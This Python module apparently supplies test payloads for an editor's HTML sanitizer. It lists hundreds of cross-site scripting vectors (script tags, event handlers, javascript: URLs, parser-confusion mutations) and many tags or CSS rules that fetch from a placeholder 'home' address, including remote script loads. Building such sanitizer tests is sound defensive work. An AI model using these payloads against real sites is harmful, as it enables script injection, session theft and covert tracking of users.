"""What a hostile page may hold to run a script in an editor's browser, or to call home from there.

`{run}` stands for a script that tells that it ran, `{home}` for an address that must never
be asked for.
"""

from __future__ import annotations

SCRIPTS = [
    "<script>{run}</script>",
    "<SCRIPT>{run}</SCRIPT>",
    "<script type=module>{run}</script>",
    "<script src='{home}/s.js'></script>",
    "<script type=module src='{home}/m.js'></script>",
    (
        '<script type=importmap>{{"imports":{{"x":"{home}/x.js"}}}}</script><script '
        "type=module>import 'x'</script>"
    ),
    '<script type=speculationrules>{{"prefetch":[{{"urls":["{home}/spec"]}}]}}</script>',
    "<script nonce=x>{run}</script>",
    "<script><!--\n{run}\n--></script>",
    "<script/x>{run}</script>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<svg><script>{run}</script></svg>",
    "<svg><script href='data:text/javascript,{run}'></script></svg>",
    "<svg><script xlink:href='{home}/svg.js'></script></svg>",
    "<math><script>{run}</script></math>",
    "<template><script>{run}</script></template>",
    "<body><noscript><p title='</noscript><script>{run}</script>'></noscript>",
    "<textarea></textarea><script>{run}</script>",
    "<title></title><script>{run}</script>",
    "<style></style><script>{run}</script>",
    "<xmp></xmp><script>{run}</script>",
    "<plaintext><script>{run}</script>",
    "<!--><script>{run}</script>-->",
    "<!--[if IE]><script>{run}</script><![endif]-->",
    "<?xml version='1.0'?><script>{run}</script>",
    "<![CDATA[<script>{run}</script>]]>",
    "<a:script xmlns:a='http://www.w3.org/1999/xhtml'>{run}</a:script>",
    "<html:script>{run}</html:script>",
    "<div><svg><foreignObject><script>{run}</script></foreignObject></svg></div>",
    "<select><script>{run}</script></select>",
    "<table><script>{run}</script></table>",
    "<iframe srcdoc='&lt;script>parent.{run}&lt;/script>'></iframe>",
    "<script>document.write('<img src=x onerror=\"{run}\">')</script>",
]
HANDLERS = [
    "<img src=x onerror='{run}'>",
    "<img src=x:x onerror={run}>",
    "<img/src='x'/onerror='{run}'>",
    "<IMG SRC=x OnErRoR='{run}'>",
    "<image src=x onerror='{run}'>",
    "<body onload='{run}'>",
    "<body onpageshow='{run}'>",
    "<body onresize='{run}' onhashchange='{run}' onfocus='{run}'>",
    "<svg onload='{run}'></svg>",
    "<svg><g onload='{run}'></g></svg>",
    "<svg><image href=x onerror='{run}'></svg>",
    "<svg><animate onbegin='{run}' attributeName=x dur=1s></svg>",
    "<svg><set onbegin='{run}' attributename=x></svg>",
    "<svg><animateTransform onbegin='{run}' attributeName=transform></svg>",
    (
        "<svg><a xlink:href='#'><animate attributeName=href values='javascript:{run}'/><text "
        "y=20>x</text></a></svg>"
    ),
    "<input autofocus onfocus='{run}'>",
    "<select autofocus onfocus='{run}'></select>",
    "<textarea autofocus onfocus='{run}'></textarea>",
    "<button autofocus onfocus='{run}'>x</button>",
    "<div tabindex=1 autofocus onfocus='{run}'>x</div>",
    "<details open ontoggle='{run}'><summary>x</summary></details>",
    "<video onerror='{run}'><source src=x></video>",
    "<video src=x onerror='{run}'></video>",
    "<audio src=x onerror='{run}'></audio>",
    "<video oncanplay='{run}' onloadstart='{run}' src='data:video/mp4,x'></video>",
    "<object data=x onerror='{run}'></object>",
    "<embed src=x onerror='{run}'>",
    "<iframe onload='{run}'></iframe>",
    "<iframe src='data:text/html,x' onload='{run}'></iframe>",
    "<link rel=stylesheet href=x onerror='{run}'>",
    "<link rel=preload as=image href=x onerror='{run}'>",
    "<style onload='{run}'>p{{}}</style>",
    "<style>@keyframes k{{}}</style><p style='animation:k 1ms' onanimationstart='{run}'>x</p>",
    "<style>p{{transition:color 1ms}}p:hover{{color:red}}</style><p ontransitionend='{run}'>x</p>",
    (
        "<style>@keyframes k{{}}</style><xss style='animation-name:k;animation-duration:1ms' "
        "onwebkitanimationend='{run}'></xss>"
    ),
    "<marquee onstart='{run}'>x</marquee>",
    "<marquee loop=1 width=0 onfinish='{run}'>x</marquee>",
    (
        "<p onpointerover='{run}' onmouseover='{run}' onmousemove='{run}' "
        "style='position:fixed;inset:0'>x</p>"
    ),
    "<p onclick='{run}' onpointerdown='{run}' style='position:fixed;inset:0'>x</p>",
    "<form onsubmit='{run}'><button autofocus>x</button></form>",
    "<x-y onfocus='{run}' tabindex=0 autofocus>x</x-y>",
    "<div onbeforematch='{run}' hidden=until-found>x</div>",
    (
        "<div popover id=p onbeforetoggle='{run}'>x</div><button popovertarget=p autofocus "
        "onfocus='{run}'>y</button>"
    ),
    "<div style='content-visibility:auto' oncontentvisibilityautostatechange='{run}'>x</div>",
    "<img src=x onerror\x0b='{run}'>",
    "<img src=x\x0conerror='{run}'>",
    "<img src='x' alt='\"><img src=x onerror={run}>' onerror='{run}'>",
]
ADDRESSES = [
    "<a href='javascript:{run}' style='position:fixed;inset:0'>x</a>",
    "<a href='JaVaScRiPt:{run}' style='position:fixed;inset:0'>x</a>",
    "<a href='java&#10;script:{run}' style='position:fixed;inset:0'>x</a>",
    "<a href=' javascript:{run}' style='position:fixed;inset:0'>x</a>",
    "<a href='&#1;javascript:{run}' style='position:fixed;inset:0'>x</a>",
    "<a href='javascript&colon;{run}' style='position:fixed;inset:0'>x</a>",
    "<a target=_blank href='javascript:{run}' style='position:fixed;inset:0'>x</a>",
    "<a href='data:text/html,<script>{run}</script>' style='position:fixed;inset:0'>x</a>",
    (
        "<svg style='position:fixed;inset:0;width:100%;height:100%'><a "
        "xlink:href='javascript:{run}'><rect width=3000 height=3000 /></a></svg>"
    ),
    (
        "<svg style='position:fixed;inset:0;width:100%;height:100%'><a "
        "href='javascript:{run}'><rect "
        "width=3000 height=3000 /></a></svg>"
    ),
    "<math href='javascript:{run}' style='position:fixed;inset:0;display:block'>x</math>",
    (
        "<map name=m><area shape=default href='javascript:{run}'></map><img usemap=#m width=2000 "
        "height=2000 style='position:fixed;inset:0' "
        "src='data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw=='>"
    ),
    "<form action='javascript:{run}'><button style='position:fixed;inset:0'>x</button></form>",
    (
        "<button form=f formaction='javascript:{run}' "
        "style='position:fixed;inset:0'>x</button><form id=f></form>"
    ),
    (
        "<form><input type=submit formaction='javascript:{run}' "
        "style='position:fixed;inset:0;width:100%;height:100%'></form>"
    ),
    (
        "<form><input type=image formaction='javascript:{run}' src=x "
        "style='position:fixed;inset:0;width:100%;height:100%'></form>"
    ),
    "<iframe src='javascript:parent.{run}'></iframe>",
    "<iframe src='java&Tab;script:parent.{run}'></iframe>",
    "<frameset><frame src='javascript:parent.{run}'></frameset>",
    "<object data='javascript:{run}'></object>",
    "<object data='data:text/html,<script>parent.{run}</script>'></object>",
    "<embed src='javascript:{run}'>",
    (
        "<embed src='data:image/svg+xml,<svg "
        'xmlns="http://www.w3.org/2000/svg"><script>{run}</script></svg>\'>'
    ),
    (
        '<svg><use href=\'data:image/svg+xml,<svg id=x xmlns="http://www.w3.org/2000/svg"><image '
        'href=x onerror="{run}"/></svg>#x\'></use></svg>'
    ),
    "<base href='javascript:/{run}//'><a href=x style='position:fixed;inset:0'>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<div style='background:url(javascript:{run})'>x</div>",
    "<table background='javascript:{run}'><tr><td>x</table>",
    "<img src='javascript:{run}'>",
    "<input type=image src='javascript:{run}'>",
    "<link rel=stylesheet href='javascript:{run}'>",
    "<style>@import 'javascript:{run}';</style>",
]
CONFUSIONS = [
    (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
        "onerror={run}&gt;'>"
    ),
    (
        "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style><img src=x "
        "onerror={run}>'></style></h1>"
    ),
    "<svg></p><style><a id='</style><img src=1 onerror={run}>'>",
    "<svg><style><!--</style><img src=x onerror={run}>--></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={run}>",
    "<noscript><style></noscript><img src=x onerror={run}></style>",
    "<noembed><img title='</noembed><img src=x onerror={run}>'></noembed>",
    "<noframes><style></noframes><img src=x onerror={run}></style>",
    "<iframe><img title='</iframe><img src=x onerror={run}>'></iframe>",
    "<xmp><p id='</xmp><img src=x onerror={run}>'></xmp>",
    "<listing>&lt;img src=x onerror={run}&gt;</listing>",
    "<textarea><img title='</textarea><img src=x onerror={run}>'></textarea>",
    "<title><img title='</title><img src=x onerror={run}>'></title>",
    "<style><img title='</style><img src=x onerror={run}>'></style>",
    "<svg><title><style></title><img src=x onerror={run}></style></svg>",
    "<svg><desc><img src=x onerror={run}></desc></svg>",
    "<svg><foreignObject><img src=x onerror={run}></foreignObject></svg>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror={run}></annotation-xml></math>",
    "<table><td><svg><tr><img src=x onerror={run}>",
    "<select><option><svg><style><img src=x onerror={run}></style></svg></option></select>",
    "<p><svg><p><style><img src=x onerror={run}></style></svg>",
    "<div title='`<img src=x onerror={run}>`'>x</div><img src=x onerror={run}>",
    "<a title='\" onmouseover={run} \"' style='position:fixed;inset:0' onmouseover={run}>x</a>",
    '<p title="]]>&lt;script>{run}&lt;/script>">]]><script>{run}</script></p>',
    "<!doctype html [<!ENTITY x '<script>{run}</script>'>]><p>&x;</p><img src=x onerror={run}>",
    (
        "<p>&lt;script&gt;{run}&lt;/script&gt;</p><svg><![CDATA[<img src=x "
        "onerror={run}>]]></svg><img "
        "src=x onerror={run}>"
    ),
    (
        "<form id=document><input name=currentScript></form><img name=currentScript><img "
        "src=x onerror={run}>"
    ),
    (
        "<img name=createTreeWalker><img name=documentElement id=documentElement><img "
        "src=x onerror={run}>"
    ),
    "<div><template shadowrootmode=open><img src=x onerror={run}></template></div>",
    "<template><template><img src=x onerror={run}></template></template><img src=x onerror={run}>",
]
CALLS = [
    "<img src='{home}/img'>",
    "<img srcset='{home}/a 1x, {home}/b 2x'>",
    "<picture><source srcset='{home}/source'><img></picture>",
    "<img loading=lazy data-src='{home}/lazy' src='{home}/lazy2'>",
    "<input type=image src='{home}/input'>",
    "<body background='{home}/background'>",
    "<table background='{home}/t'><tr><td background='{home}/td'>x</table>",
    "<link rel=stylesheet href='{home}/sheet.css'>",
    "<link rel=prefetch href='{home}/prefetch'>",
    "<link rel=preload as=image href='{home}/preload'>",
    "<link rel=modulepreload href='{home}/modulepreload'>",
    "<link rel=prerender href='{home}/prerender'>",
    "<link rel=preconnect href='{home}'><link rel=dns-prefetch href='{home}'>",
    "<link rel=icon href='{home}/icon'>",
    "<link rel=manifest href='{home}/manifest'>",
    "<link rel='shortcut icon' href='{home}/favicon'>",
    "<link rel=compression-dictionary href='{home}/dictionary'>",
    "<meta http-equiv=refresh content='0;url={home}/refresh'>",
    "<META HTTP-EQUIV='Refresh' CONTENT='0; {home}/refresh2'>",
    "<meta http-equiv=Link content='<{home}/link>; rel=preload; as=image'>",
    (
        "<meta http-equiv=Content-Security-Policy-Report-Only content=\"default-src 'none'; "
        'report-uri {home}/report">'
    ),
    "<style>body{{background:url({home}/url)}}</style>",
    "<style>body{{background:url('{home}/url-quoted')}}</style>",
    "<style>body{{background:u\\72l({home}/escaped)}}</style>",
    "<style>body{{background:\\75rl('{home}/escaped2')}}</style>",
    "<style>@import '{home}/import';</style>",
    "<style>@import url({home}/import-url);</style>",
    "<style>@\\69mport '{home}/import-escaped';</style>",
    "<style>@font-face{{font-family:f;src:url({home}/font)}}body{{font-family:f}}</style>text",
    "<style>body{{background:image-set('{home}/set' 1x)}}</style>",
    "<style>body{{background:-webkit-image-set(url({home}/webkit-set) 1x)}}</style>",
    "<style>body{{background:cross-fade(url({home}/fade),url({home}/fade2))}}</style>",
    "<style>p{{content:url({home}/content)}}p::before{{content:url({home}/before)}}</style><p>x</p>",
    "<style>li{{list-style:url({home}/list)}}</style><ul><li>x</ul>",
    "<style>p{{cursor:url({home}/cursor),auto}}</style><p style='position:fixed;inset:0'>x</p>",
    "<style>p{{border-image:url({home}/border) 1}}</style><p>x</p>",
    "<style>p{{mask:url({home}/mask#m);filter:url({home}/filter#f);clip-path:url({home}/clip#c)}}</style><p>x</p>",
    "<style>p{{shape-outside:url({home}/shape);float:left}}</style><p>x</p>",
    "<style>:root{{--x:url({home}/var)}}body{{background:var(--x)}}</style>",
    "<style>@property --p{{syntax:'<image>';inherits:false;initial-value:url({home}/property)}}body{{background:var(--p)}}</style>",
    "<style>@namespace url({home}/namespace);@charset 'x';</style>",
    "<style>/*</style><style>*/body{{background:url({home}/comment)}}</style>",
    "<style>p{{x:'\n}}body{{background:url({home}/string)}}</style>",
    "<style>@media all{{@supports(display:grid){{body{{background:url({home}/nested)}}}}}}</style>",
    "<style>@import '{home}/a' layer(x) supports(display:grid) screen;</style>",
    "<style>body{{background:url(//{host}/scheme)}}</style>",
    "<p style='background:url({home}/style)'>x</p>",
    "<p style='background:ur&#x6c;({home}/entity)'>x</p>",
    '<p style="background:url(&quot;{home}/quoted&quot;)">x</p>',
    "<p style='background:url({home}/a'>unclosed</p>",
    "<video poster='{home}/poster' src='{home}/video'></video>",
    "<audio src='{home}/audio' autoplay></audio>",
    "<video autoplay><source src='{home}/vsource'><track default src='{home}/track'></video>",
    "<object data='{home}/object'></object>",
    (
        "<object classid='{home}/classid' codebase='{home}/codebase'><param name=src "
        "value='{home}/param'></object>"
    ),
    "<embed src='{home}/embed'>",
    "<applet code='{home}/applet' archive='{home}/archive'></applet>",
    "<iframe src='{home}/iframe'></iframe>",
    "<iframe srcdoc='<img src={home}/srcdoc>'></iframe>",
    "<frameset><frame src='{home}/frame'></frameset>",
    "<portal src='{home}/portal'></portal>",
    "<fencedframe src='{home}/fenced'></fencedframe>",
    "<svg><image href='{home}/svgimage' width=9 height=9 /></svg>",
    "<svg><image xlink:href='{home}/svgxlink' width=9 height=9 /></svg>",
    "<svg><use href='{home}/use#x'></use></svg>",
    "<svg><feImage href='{home}/feimage'></feImage></svg>",
    (
        "<svg><filter id=f><feImage xlink:href='{home}/feimage2'/></filter><rect "
        "width=99 height=99 "
        "filter='url(#f)'/></svg>"
    ),
    (
        "<svg><rect width=9 height=9 fill='url({home}/fill#x)' filter='url({home}/sfilter#x)' "
        "mask='url({home}/smask#x)' /></svg>"
    ),
    (
        "<svg><rect width=9 height=9 style='fill:url({home}/sfill#x)' "
        "cursor='url({home}/scursor)' /></svg>"
    ),
    (
        "<svg><style>@import '{home}/svgimport';rect{{fill:url({home}/svgfill#x)}}</style><rect "
        "width=9 height=9 /></svg>"
    ),
    (
        "<svg><animate attributeName=href values='{home}/animate' /><image><set attributeName=href "
        "to='{home}/set'/></image></svg>"
    ),
    (
        "<math><mglyph src='{home}/mglyph'></mglyph><maction "
        "actiontype='statusline#{home}/maction'></maction></math>"
    ),
    "<base href='{home}/'><img src=base>",
    "<base target=_top href='{home}/'><a href=based style='position:fixed;inset:0'>x</a>",
    "<a href='{home}/click' style='position:fixed;inset:0'>x</a>",
    "<a href='#' ping='{home}/ping' style='position:fixed;inset:0'>x</a>",
    "<a href='{home}/download' download style='position:fixed;inset:0'>x</a>",
    "<a href='{home}/blank' target=_blank style='position:fixed;inset:0'>x</a>",
    "<a href='{home}/top' target=_top style='position:fixed;inset:0'>x</a>",
    (
        "<a href='{home}/attribution' attributionsrc style='position:fixed;inset:0'>x</a><img "
        "attributionsrc='{home}/attr'>"
    ),
    (
        "<map name=m><area shape=default href='{home}/area' ping='{home}/areaping'></map><img "
        "usemap=#m width=2000 height=2000 style='position:fixed;inset:0' "
        "src='data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw=='>"
    ),
    "<form action='{home}/form'><button style='position:fixed;inset:0'>x</button></form>",
    (
        "<form action='{home}/post' method=post target=_top><input type=submit "
        "style='position:fixed;inset:0;width:100%;height:100%'></form>"
    ),
    "<form><button formaction='{home}/formaction' style='position:fixed;inset:0'>x</button></form>",
    (
        "<form action='{home}/image'><input type=image "
        "style='position:fixed;inset:0;width:100%;height:100%'></form>"
    ),
    "<isindex action='{home}/isindex'><input type=submit>",
    (
        "<svg style='position:fixed;inset:0;width:100%;height:100%'><a href='{home}/svglink'><rect "
        "width=3000 height=3000 /></a></svg>"
    ),
    (
        "<blockquote cite='{home}/cite'><q cite='{home}/q'>x</q></blockquote><img "
        "longdesc='{home}/longdesc' src=x>"
    ),
    "<html manifest='{home}/appcache'><p>x</p></html>",
    "<head profile='{home}/profile'></head>",
    "<bgsound src='{home}/bgsound'>",
    "<img src='{home}/crossorigin' crossorigin=use-credentials referrerpolicy=unsafe-url>",
    "<div itemscope itemtype='{home}/itemtype'><link itemprop=url href='{home}/itemprop'></div>",
    "<?xml-stylesheet href='{home}/xml-stylesheet' type='text/css'?><p>x</p>",
    "<!doctype html public 'x' '{home}/dtd'><p>x</p>",
]
ALL = [*SCRIPTS, *HANDLERS, *ADDRESSES, *CONFUSIONS, *CALLS]


def payloads(home: str) -> list[str]:
    """Return all payloads, each telling by its own number that its script ran."""
    host = home.partition("//")[2]
    return [
        payload.replace("{{", "\x01")
        .replace("}}", "\x02")
        .replace("{run}", f"ran({n})")
        .replace("{home}", f"{home}/{n}")
        .replace("{host}", f"{host}/{n}")
        .replace("\x01", "{")
        .replace("\x02", "}")
        for n, payload in enumerate(ALL)
    ]
